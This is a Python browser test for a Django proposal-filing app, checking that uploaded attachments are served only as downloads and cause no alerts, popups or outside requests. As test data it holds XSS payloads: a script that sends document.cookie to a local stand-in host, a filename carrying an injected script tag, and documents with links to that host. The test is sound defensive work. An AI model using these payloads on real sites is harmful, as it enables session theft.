"""What is served of the files that were taken: a browser downloads it, and runs nothing."""

import uuid

import pytest
from django.urls import reverse
from django.utils import timezone

from innovations.actions import attach_file
from innovations.slots import slots_of
from tests.factories import make_proposal
from tests.filing import archive, given, office, pdf, photo, relation
from tests.innovations.browsing import open_world, sign_in

pytestmark = pytest.mark.django_db(transaction=True)
SCRIPT = b"<script>alert(1);fetch('http://127.0.0.1:9/'+document.cookie)</script>"
QUOTED = SCRIPT.replace(b"(", b"\\(").replace(b")", b"\\)")
LINK = b"<< /S /URI /URI (http://127.0.0.1:9/) >>"
TAKEN = {
    "naskah.html": pdf(b"(" + b" " * 3000 + QUOTED + b")", LINK),
    '"><script>alert(1)</script>.svg': photo() + SCRIPT + archive(("a.html", SCRIPT)),
    "gambar.svg": photo("PNG"),
    "surat.docm": office(main=f"<d>{SCRIPT.decode().replace('<', '&lt;')}</d>"),
    "data.html": office("xlsx", links=relation("hyperlink", "http://127.0.0.1:9/")),
}
OPEN_ALL = """urls => Promise.all(urls.flatMap(url => ['iframe', 'object', 'embed', 'img', 'script']
  .map(tag => new Promise(done => {
    const part = document.createElement(tag);
    part.onload = part.onerror = () => done(tag);
    part[tag === 'object' ? 'data' : 'src'] = url;
    document.body.append(part);
    setTimeout(() => done(tag), 400);
  }))))"""


def send(world, proposal, slot, name, data):
    facts = {"slot": slot.code, "file": given(data), "name": name, "key": uuid.uuid4()}
    return attach_file(proposal, by=world.drafter, at=timezone.now(), **facts)


@pytest.fixture
def addresses(live_server):
    """Of every file that was taken."""
    world = open_world()
    live_server.world = world
    entry = make_proposal(world.competition, world.unit, by=world.drafter, is_filled=False)
    places = [slot for slot in slots_of(entry) if slot.section]
    rows = [
        send(world, entry, places[number % len(places)], *item)
        for number, item in enumerate(TAKEN.items())
    ]
    return [
        live_server.url
        + reverse("attachment-file", kwargs={"code": entry.code, "attachment": row.code})
        for row in rows
    ]


def test_files_that_were_taken_run_nothing_and_call_nobody(page, live_server, addresses):
    sign_in(page.context, live_server, live_server.world.drafter)
    alarms, asked = [], []
    page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
    page.on("popup", lambda other: alarms.append(other.url))
    page.context.on("request", lambda request: asked.append(request.url))

    downloads = []
    for address in addresses:
        with page.expect_download() as caught:
            page.evaluate("address => { location.href = address }", address)
        downloads.append(caught.value.suggested_filename)
    page.goto(live_server.url + reverse("proposal-list"))
    shown = page.url
    page.evaluate(OPEN_ALL, addresses)

    assert [name.rpartition(".")[2] for name in downloads] == ["pdf", "jpg", "png", "docx", "xlsx"]
    assert (alarms, page.url) == ([], shown)
    assert [url for url in asked if not url.startswith((live_server.url, "data:"))] == []
